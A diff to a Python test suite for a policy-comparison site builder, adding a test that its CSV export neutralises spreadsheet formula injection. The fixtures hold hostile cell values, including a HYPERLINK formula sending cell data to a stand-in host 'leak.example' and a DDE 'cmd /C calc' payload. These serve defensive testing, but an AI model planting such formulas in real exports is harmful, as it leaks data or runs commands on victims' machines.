@@ -47,7 +47,7 @@ def test_unmapped_clause_fails_a_strict_build(project, tmp_path):
     root = project({"source_policies/topics.yml": topics, "source_policies/documents/alpha-policy.yml": mapped})
     result = build(root, tmp_path / "site")
     assert result.returncode != 0
-    assert "alpha-policy.yml: clause 'friends' of version '2020' maps to no topic" in result.output
+    assert "alpha-policy.yml:20:17: clause 'friends' of version '2020' maps to no topic" in result.output
     assert "policy-handbook suggest" in result.output
     assert not (tmp_path / "site").exists(), "a failed build leaves no site behind"
 
@@ -123,7 +123,7 @@ def test_matrix_has_every_topic_and_body_in_words(bundled_site):
     header = re.search(r"<thead>(.*?)</thead>", raw, re.S).group(1)
     assert all(name in header for name in FIVE)
     row = re.search(r'<tr>\s*<th scope="row"><a href="topics/service-user-contact/">.*?</tr>', raw, re.S).group(0)
-    cells = re.findall(r"<td>(.*?)</td>", row, re.S)
+    cells = re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)
     assert len(cells) == 6
     assert "Prohibits (must)" in cells[0] and "Not addressed" in cells[1] and "Not addressed" in cells[4]
     conflict_row = re.search(r'<tr>\s*<th scope="row"><a href="topics/personal-use-working-time/">.*?</tr>', raw,
@@ -255,3 +255,58 @@ def test_suggest_command_prints_and_changes_nothing(tmp_path):
     assert re.match(r" +0\.\d{3}  \S+: ", lines[at + 1])
     assert "nothing was changed" in result.output
     assert path.read_bytes() == before
+
+
+FORMULA_TOPICS = """\
+groups:
+  - id: rules
+    title: "@SUM(1+1)"
+topics:
+  - id: working-time
+    title: "=HYPERLINK(\\"http://leak.example/?\\"&A1,\\"Open\\")"
+    question: "+cmd|' /C calc'!A0"
+    description: Whether staff may use social media at work.
+    group: rules
+"""
+
+FORMULA_DOCUMENT = """\
+id: alpha-policy
+body: alpha-council
+title: "-2+3"
+kind: policy
+attribution: {basis: stated}
+versions:
+  - id: "2020"
+    label: "=1+1"
+    status: approved
+    source: {title: Alpha policy}
+    sections:
+      - id: rules
+        title: Rules
+        clauses:
+          - id: working-time
+            number: "-1"
+            text: "=HYPERLINK(\\"http://leak.example/?\\"&A1) Employees must not use social media at work."
+            topics:
+              - topic: working-time
+                rationale: "\\tTabbed note"
+"""
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(project, tmp_path):
+    root = project({"source_policies/topics.yml": FORMULA_TOPICS,
+                    "source_policies/documents/alpha-policy.yml": FORMULA_DOCUMENT})
+    result = build(root, tmp_path / "site", strict=False)
+    assert result.ok, result.output
+    data = (tmp_path / "site/compare/mapping.csv").read_bytes().decode("utf-8-sig")
+    row = next(csv.DictReader(io.StringIO(data, newline="")))
+    assert row["topic_title"] == "'=HYPERLINK(\"http://leak.example/?\"&A1,\"Open\")"
+    assert row["document_title"] == "'-2+3"
+    assert row["version_label"] == "'=1+1"
+    assert row["clause_number"] == "'-1"
+    assert row["text"].startswith("'=HYPERLINK(")
+    assert row["rationale"] == "'\tTabbed note"
+    assert row["body_name"] == "Alpha Council", "other cells stay as they are"
+    assert not [cell for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    exported = json.loads((tmp_path / "site/compare/mapping.json").read_text(encoding="utf-8"))
+    assert exported["topics"][0]["title"].startswith("=HYPERLINK("), "the JSON keeps values as written"
